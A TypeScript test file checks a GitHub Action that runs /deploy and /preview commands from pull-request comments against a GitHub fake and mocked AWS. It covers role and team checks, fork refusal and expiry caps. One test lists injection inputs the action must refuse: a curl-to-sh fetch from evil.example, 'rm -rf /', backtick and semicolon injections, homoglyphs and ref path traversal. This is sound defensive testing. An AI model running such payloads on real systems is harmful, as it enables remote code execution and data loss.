// Commands from PR comments through the command bundle, against the GitHub fake (held to GitHub's OpenAPI
// description) and, for the /preview commands that touch AWS, moto behind the IAM-enforcing proxy. Each test
// checks what is there afterwards: dispatches and re-runs the fake accepted, reactions and replies on the
// comment, the sticky comment's Commands table, and the preview's tags, count and rule in moto.
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DescribeServicesCommand, TagResourceCommand } from '@aws-sdk/client-ecs';
import { DescribeRulesCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
import { TAG } from '@ecs-actions/kit';
import { beforeEach, describe, expect, it } from 'vitest';
import { builtAction, repoRoot, runAction, type StepResult } from '../harness/runner.js';
import { MARKER } from './pr-comment-helpers.js';
import {
  awsEnv,
  CREATE,
  createInputs,
  headSha,
  type PreviewWorld,
  REPOSITORY,
  runForPr,
  TOKEN,
  usePreviewWorld,
} from './preview-env.js';
import { sweepIn } from './sweep-env.js';

const COMMAND = join(repoRoot, 'actions', 'command');
const APP_TOKEN = 'ghs_commands_app';
const world = usePreviewWorld();

const ENVIRONMENTS = `
defaults:
  listener-arn: LISTENER
environments:
  preview:
    commands:
      redeploy: write, octo-org/qa
      extend: write, octo-org/qa
      wake: write, octo-org/qa
    max-age: 10d
  staging:
    commands:
      deploy: write, octo-org/qa
    deploy-refs: ['release/*']
  production:
    commands:
      deploy: none
`;

let workspace: string;
let commentIds = 900_000;

function workspaceFor(w: PreviewWorld): string {
  const dir = mkdtempSync(join(tmpdir(), 'commands-'));
  mkdirSync(join(dir, '.github'));
  const listener = w.sandbox.httpsListenerArn ?? w.sandbox.httpListenerArn;
  writeFileSync(join(dir, '.github', 'ecs-environments.yml'), ENVIRONMENTS.replace('LISTENER', listener));
  return dir;
}

interface Comment {
  pr: number;
  body: string;
  login?: string;
  userType?: 'User' | 'Bot';
  action?: 'created' | 'edited' | 'deleted';
  /** false: the comment is on an issue, not a pull request. */
  isPull?: boolean;
}

/** Adds the comment to the fake and returns the issue_comment event GitHub would send for it. */
function commentOn(w: PreviewWorld, c: Comment) {
  const login = c.login ?? 'maya';
  const isPull = c.isPull ?? true;
  if (isPull && !w.gh.state.pullRequest(c.pr)) {
    w.gh.state.addPullRequest({ number: c.pr, headRef: `feature/pr-${c.pr}`, headSha: headSha(c.pr) });
  }
  if (!isPull) w.gh.state.addIssue({ number: c.pr });
  const record = w.gh.state.addComment({
    issueNumber: c.pr,
    body: c.body,
    user: { login, type: c.userType ?? 'User' },
  });
  commentIds = record.id;
  const [owner, name] = REPOSITORY.split('/');
  return {
    id: record.id,
    event: {
      name: 'issue_comment',
      payload: {
        action: c.action ?? 'created',
        issue: {
          number: c.pr,
          title: `PR ${c.pr}`,
          ...(isPull
            ? { pull_request: { url: `https://api.github.com/repos/${REPOSITORY}/pulls/${c.pr}` } }
            : {}),
        },
        comment: { id: record.id, body: c.body, user: { login, id: 7, type: c.userType ?? 'User' } },
        repository: { full_name: REPOSITORY, name, owner: { login: owner }, default_branch: 'main' },
        sender: { login, type: c.userType ?? 'User' },
      },
    },
  };
}

/** Runs a step with the workflow's GITHUB_TOKEN, and the app token for teams unless `teams` is false. */
function step(
  w: PreviewWorld,
  event: { name: string; payload: unknown },
  inputs: Record<string, string>,
  teams = true,
): Promise<StepResult> {
  return runAction({
    action: COMMAND,
    inputs: { ...(teams ? { 'teams-token': APP_TOKEN } : {}), ...inputs },
    env: { ...awsEnv(w), GITHUB_RUN_ID: String(5000 + (commentIds % 1000)), GITHUB_RUN_ATTEMPT: '1' },
    token: TOKEN,
    apiUrl: w.gh.url,
    repository: REPOSITORY,
    event,
    workspace,
  });
}

/** The PR's sticky comments written by the commands' token. */
const stickyOn = (w: PreviewWorld, pr: number) =>
  w.gh.state.comments(pr).filter((c) => c.user.login === 'github-actions[bot]' && c.body.startsWith(MARKER));
const reactionsOn = (w: PreviewWorld, id: number) => w.gh.state.reactions(id).map((r) => r.content);
const replies = (w: PreviewWorld, pr: number, login = 'github-actions[bot]') =>
  w.gh.state.comments(pr).filter((c) => c.user.login === login && !c.body.startsWith('<!--'));

describe('commands from PR comments through the bundle', () => {
  beforeEach(() => {
    const w = world();
    builtAction('command');
    w.gh.reset();
    workspace = workspaceFor(w);
    w.gh.addToken(APP_TOKEN, { login: 'shop-commands[bot]', canReadOrg: true });
    w.gh.state.setTeam('octo-org', 'qa', ['qa-ann']);
    w.gh.state.setRole('maya', 'write');
    w.gh.state.setRole('qa-ann', 'triage');
    w.gh.state.setRole('rita', 'read');
    w.gh.state.setRole('root', 'admin');
    if (!w.gh.state.findWorkflow(w.gh.state.repository()!, 'deploy.yml')) {
      w.gh.state.addWorkflow({
        path: '.github/workflows/deploy.yml',
        dispatchInputs: ['environment', 'branch'],
      });
    }
  });

  it('a QA member allowed by the file deploys the PR branch to staging: the default branch workflow is dispatched', async () => {
    const w = world();
    const { id, event } = commentOn(w, { pr: 201, body: '/deploy staging', login: 'qa-ann' });
    const out = await step(w, event, { step: 'start' });
    expect(out.errors).toEqual([]);
    expect(out.outputs).toMatchObject({ command: '/deploy staging', outcome: 'done', aws: '' });
    expect(w.gh.state.dispatches).toMatchObject([
      { ref: 'main', inputs: { environment: 'staging', branch: 'feature/pr-201' } },
    ]);
    expect(reactionsOn(w, id)).toEqual(['eyes', 'rocket']);
    const sticky = stickyOn(w, 201);
    expect(sticky).toHaveLength(1);
    expect(sticky[0]!.body).toContain(
      '@qa-ann | /deploy staging | 🚀 done: deploy.yml dispatched: feature/pr-201 to staging',
    );
    expect(replies(w, 201)).toEqual([]);
  });

  it('without a teams-token (GITHUB_TOKEN cannot read teams) the team entry fails closed: refused, with the token it needs', async () => {
    const w = world();
    const { id, event } = commentOn(w, { pr: 202, body: '/deploy staging', login: 'qa-ann' });
    const out = await step(w, event, { step: 'start' }, false);
    expect(out.outputs.outcome).toBe('refused');
    expect(w.gh.state.dispatches).toEqual([]);
    expect(reactionsOn(w, id)).toEqual(['eyes', '-1']);
    const [reply] = replies(w, 202, 'github-actions[bot]');
    expect(reply!.body).toContain('Members: read');
    expect(
      out.annotations.some(
        (a) => a.level === 'warning' && a.message.includes('GITHUB_TOKEN cannot read teams'),
      ),
    ).toBe(true);
  });

  it('production is refused from a comment even to an admin; a reader is refused staging; nothing is dispatched', async () => {
    const w = world();
    const prod = commentOn(w, { pr: 203, body: '/deploy production', login: 'root' });
    const refusedProd = await step(w, prod.event, { step: 'start' });
    expect(refusedProd.outputs.outcome).toBe('refused');
    const reader = commentOn(w, { pr: 203, body: '/deploy staging', login: 'rita' });
    const refusedReader = await step(w, reader.event, { step: 'start' });
    expect(refusedReader.outputs.outcome).toBe('refused');
    expect(w.gh.state.dispatches).toEqual([]);
    const bodies = replies(w, 203).map((c) => c.body);
    expect(bodies[0]).toContain('turned off here');
    expect(bodies[1]).toContain(
      '@rita may not run this: only people with the write role or above, members of octo-org/qa may',
    );
    // A refusal changes nothing else: no sticky comment.
    expect(stickyOn(w, 203)).toEqual([]);
  });

  it('an edited comment, a bot comment and an ordinary comment are ignored without a reaction', async () => {
    const w = world();
    for (const c of [
      { pr: 204, body: '/deploy staging', action: 'edited' as const },
      { pr: 204, body: '/deploy staging', login: 'renovate[bot]', userType: 'Bot' as const },
      { pr: 204, body: 'Looks good! /deploy staging later' },
      { pr: 204, body: '/assign @maya' },
    ]) {
      const { id, event } = commentOn(w, c);
      const out = await step(w, event, { step: 'start' });
      expect(out.errors).toEqual([]);
      expect(out.outputs).toMatchObject({ command: '', outcome: 'ignored' });
      expect(reactionsOn(w, id)).toEqual([]);
    }
    expect(w.gh.state.dispatches).toEqual([]);
    expect(replies(w, 204)).toEqual([]);
  });

  it('a command on an issue gets a polite refusal', async () => {
    const w = world();
    const { id, event } = commentOn(w, { pr: 205, body: '/preview redeploy', isPull: false });
    const out = await step(w, event, { step: 'start' });
    expect(out.outputs.outcome).toBe('refused');
    expect(reactionsOn(w, id)).toEqual(['eyes', '-1']);
    expect(replies(w, 205)[0]!.body).toContain('#205 is an issue, not a pull request');
  });

  it.each([
    [
      '/deploy staging $(curl -s https://evil.example/x | sh)',
      'takes an environment and an optional ref, nothing more',
    ],
    ['/deploy staging main;rm -rf /', 'nothing more'],
    ['/deploy staging main;id', 'is not a branch or tag name'],
    ['/deploy staging `id`', 'is not a branch or tag name'],
    ['/deploy staging$(id)', 'is not an environment name'],
    ['/dеploy staging', 'plain ASCII'], // Cyrillic е
    ['/deploy staging\u200b', 'outside plain ASCII'], // zero-width space
    ['/deploy staging release/../../main', 'is not a branch or tag name'],
    ['/deploy staging main', "is not a ref 'staging' takes from a comment (deploy-refs: release/*)"],
    ['/preview frobnicate', 'is not a command'],
    ['/preview extend forever', 'is not a duration'],
  ])('refuses %j with one reply, and runs nothing', async (body, reason) => {
    const w = world();
    w.gh.state.setRef('main', 'd'.repeat(40));
    const { id, event } = commentOn(w, { pr: 206, body, login: 'maya' });
    const before = replies(w, 206).length;
    const out = await step(w, event, { step: 'start' });
    expect(out.outputs).toMatchObject({ outcome: 'refused', aws: '' });
    expect(w.gh.state.dispatches).toEqual([]);
    expect(reactionsOn(w, id)).toEqual(['eyes', '-1']);
    const mine = replies(w, 206);
    expect(mine).toHaveLength(before + 1);
    expect(mine.at(-1)!.body).toContain(reason);
    expect(mine.at(-1)!.body).toContain('nothing was changed');
  });

  it.each(['redeploy', 'destroy', 'extend', 'seed', 'wake'])(
    '/preview %s by a reader is refused by default (write role needed), and hands nothing to the AWS job',
    async (verb) => {
      const w = world();
      const { id, event } = commentOn(w, { pr: 213, body: `/preview ${verb}`, login: 'rita' });
      const out = await step(w, event, { step: 'start', 'seed-command': 'bin/seed' });
      expect(out.outputs).toMatchObject({ outcome: 'refused', aws: '' });
      expect(reactionsOn(w, id)).toEqual(['eyes', '-1']);
      expect(replies(w, 213).at(-1)!.body).toContain('@rita may not run this');
    },
  );

  it('a token that cannot write (permissions missing from the job) fails the step with the permission to add', async () => {
    const w = world();
    w.gh.addToken('ghs_read_only', { permissions: 'read' });
    const { id, event } = commentOn(w, { pr: 215, body: '/deploy staging', login: 'maya' });
    const out = await step(w, event, { step: 'start', 'github-token': 'ghs_read_only' });
    expect(out.exitCode).not.toBe(0);
    expect(out.errors.join('\n')).toContain("give the job 'pull-requests: write' and 'issues: write'");
    expect(reactionsOn(w, id)).toEqual([]);
    expect(w.gh.state.dispatches).toEqual([]);
  });

  it('a PR from a fork: its branch is never deployed or rebuilt from a comment', async () => {
    const w = world();
    w.gh.state.addPullRequest({ number: 214, headRef: 'patch-1', headRepo: 'someone/shop' });
    for (const body of ['/deploy staging', '/preview redeploy']) {
      const { event } = commentOn(w, { pr: 214, body, login: 'maya' });
      const out = await step(w, event, { step: 'start' });
      expect(out.outputs.outcome).toBe('refused');
    }
    const bodies = replies(w, 214).map((c) => c.body);
    expect(bodies[0]).toContain('lives in a fork');
    expect(bodies[1]).toContain('not made for pull requests from forks');
    expect(w.gh.state.dispatches).toEqual([]);
  });

  it("a ref that matches the environment's deploy-refs is deployed", async () => {
    const w = world();
    w.gh.state.setRef('release/1.4', 'e'.repeat(40));
    const { event } = commentOn(w, { pr: 207, body: '/deploy staging release/1.4', login: 'maya' });
    const out = await step(w, event, { step: 'start' });
    expect(out.outputs.outcome).toBe('done');
    expect(w.gh.state.dispatches).toMatchObject([
      { ref: 'main', inputs: { environment: 'staging', branch: 'release/1.4' } },
    ]);
  });

  it('/preview redeploy re-runs the latest completed preview run of the head commit, and refuses while one runs', async () => {
    const w = world();
    const { event } = commentOn(w, { pr: 208, body: '/preview redeploy', login: 'qa-ann' });
    const old = w.gh.state.addWorkflowRun({
      workflow: 'preview.yml',
      event: 'pull_request',
      headBranch: 'feature/pr-208',
      headSha: headSha(208),
      pullRequests: [208],
      createdAt: '2026-01-01T00:00:00Z',
    });
    const latest = w.gh.state.addWorkflowRun({
      workflow: 'preview.yml',
      event: 'pull_request',
      headBranch: 'feature/pr-208',
      headSha: headSha(208),
      pullRequests: [208],
      conclusion: 'failure',
      createdAt: '2026-01-02T00:00:00Z',
    });
    const out = await step(w, event, { step: 'start' });
    expect(out.errors).toEqual([]);
    expect(replies(w, 208)).toEqual([]);
    expect(out.outputs.outcome).toBe('done');
    expect(w.gh.state.workflowRun(latest.id)).toMatchObject({ runAttempt: 2, status: 'queued' });
    expect(w.gh.state.workflowRun(old.id)!.runAttempt).toBe(1);
    // The re-run is still queued: a second command is refused, and nothing is re-run twice.
    const again = commentOn(w, { pr: 208, body: '/preview redeploy', login: 'maya' });
    const refused = await step(w, again.event, { step: 'start' });
    expect(refused.outputs.outcome).toBe('refused');
    expect(replies(w, 208).at(-1)!.body).toContain('is still queued');
    expect(w.gh.state.workflowRun(latest.id)!.runAttempt).toBe(2);
  });

  it('/preview extend moves the expiry in AWS (capped by max-age), and the sticky comment says so', async () => {
    const w = world();
    const created = await runForPr(w, CREATE, 209, createInputs(w, { ttl: '1d' }));
    expect(created.errors).toEqual([]);
    const serviceArn = created.outputs['service-arn']!;
    const tags = async () => {
      const { services = [] } = await w.clients.ecs.send(
        new DescribeServicesCommand({
          cluster: w.sandbox.clusterName,
          services: [serviceArn],
          include: ['TAGS'],
        }),
      );
      return Object.fromEntries((services[0]?.tags ?? []).map((t) => [t.key, t.value]));
    };
    const before = Date.parse((await tags())[TAG.expiresAt]!);
    const { id, event } = commentOn(w, { pr: 209, body: '/preview extend 2d', login: 'qa-ann' });
    const start = await step(w, event, { step: 'start' });
    expect(start.outputs).toMatchObject({ outcome: 'pending', aws: 'extend', 'pr-number': '209' });
    const apply = await step(w, event, { step: 'apply', cluster: w.sandbox.clusterName });
    expect(apply.errors).toEqual([]);
    expect(apply.outputs.outcome).toBe('done');
    const after = Date.parse((await tags())[TAG.expiresAt]!);
    expect(after - before).toBeGreaterThanOrEqual(2 * 86_400_000 - 2_000);
    expect(after - before).toBeLessThanOrEqual(2 * 86_400_000 + 2_000);
    const finish = await step(w, event, { step: 'finish', result: 'done', detail: apply.outputs.detail! });
    expect(finish.errors).toEqual([]);
    expect(reactionsOn(w, id)).toEqual(['eyes', 'rocket']);
    expect(stickyOn(w, 209)[0]!.body).toContain('@qa-ann | /preview extend 2d | 🚀 done: expires');
    // max-age (10d from creation) caps the next one: 30 days more is cut to it.
    const more = commentOn(w, { pr: 209, body: '/preview extend 30d', login: 'maya' });
    const capped = await step(w, more.event, { step: 'apply', cluster: w.sandbox.clusterName });
    expect(capped.outputs.detail).toContain('the most max-age 10d allows');
    const createdAt = Date.parse((await tags())[TAG.createdAt]!);
    expect(Date.parse((await tags())[TAG.expiresAt]!)).toBe(createdAt + 10 * 86_400_000);
    // At the cap, a further extension is refused and changes nothing.
    const atCap = commentOn(w, { pr: 209, body: '/preview extend', login: 'maya' });
    const refused = await step(w, atCap.event, { step: 'apply', cluster: w.sandbox.clusterName });
    expect(refused.outputs).toMatchObject({ outcome: 'refused' });
    expect(refused.outputs.detail).toContain('raise max-age');
  });

  it('/preview wake wakes a sleeping preview: count back, the rule forwards, the row is ready', async () => {
    const w = world();
    const created = await runForPr(w, CREATE, 210, createInputs(w));
    expect(created.errors).toEqual([]);
    // Created an hour ago: the sleep schedule's last time (a minute ago at most) comes after it.
    await w.clients.ecs.send(
      new TagResourceCommand({
        resourceArn: created.outputs['service-arn']!,
        tags: [
          { key: TAG.createdAt, value: `${new Date(Date.now() - 3_600_000).toISOString().slice(0, 19)}Z` },
        ],
      }),
    );
    const slept = await sweepIn(w, {
      'closed-prs': 'false',
      'sleep-schedule': '* * * * *',
      'wake-schedule': '0 0 29 2 1',
    });
    expect(slept.errors).toEqual([]);
    const count = async () => {
      const { services = [] } = await w.clients.ecs.send(
        new DescribeServicesCommand({
          cluster: w.sandbox.clusterName,
          services: [created.outputs['service-arn']!],
        }),
      );
      return services[0]?.desiredCount;
    };
    expect(await count()).toBe(0);
    const { event } = commentOn(w, { pr: 210, body: '/preview wake', login: 'qa-ann' });
    const apply = await step(w, event, {
      step: 'apply',
      cluster: w.sandbox.clusterName,
      'wake-timeout': '20s',
    });
    expect(apply.errors).toEqual([]);
    expect(apply.outputs.outcome).toBe('done');
    expect(await count()).toBe(1);
    const { Rules = [] } = await w.clients.elbv2.send(
      new DescribeRulesCommand({ RuleArns: [created.outputs['rule-arn']!] }),
    );
    expect(Rules[0]!.Actions!.some((a) => a.Type === 'forward')).toBe(true);
    const sticky = stickyOn(w, 210);
    expect(sticky[0]!.body).toMatch(/\*\*preview\*\* \| ✅ Ready/);
  });

  it('/preview seed gives the service and revision the seed task runs like; without a seed command it is refused', async () => {
    const w = world();
    const created = await runForPr(w, CREATE, 211, createInputs(w));
    const { event } = commentOn(w, { pr: 211, body: '/preview seed', login: 'maya' });
    const noSeed = await step(w, event, { step: 'start' });
    expect(noSeed.outputs.outcome).toBe('refused');
    const seeded = commentOn(w, { pr: 211, body: '/preview seed', login: 'maya' });
    const start = await step(w, seeded.event, { step: 'start', 'seed-command': 'bin/seed --small' });
    expect(start.outputs).toMatchObject({ outcome: 'pending', aws: 'seed' });
    const apply = await step(w, seeded.event, { step: 'apply', cluster: w.sandbox.clusterName });
    expect(apply.outputs).toMatchObject({
      outcome: 'done',
      'service-arn': created.outputs['service-arn'],
      'task-definition-arn': created.outputs['task-definition-arn'],
    });
  });

  it('a command for a PR without a preview is refused by the AWS step, with nothing changed', async () => {
    const w = world();
    const { event } = commentOn(w, { pr: 212, body: '/preview extend', login: 'maya' });
    const apply = await step(w, event, { step: 'apply', cluster: w.sandbox.clusterName });
    expect(apply.errors).toEqual([]);
    expect(apply.outputs).toMatchObject({ outcome: 'refused' });
    expect(apply.outputs.detail).toContain('PR #212 has no preview');
  });
});
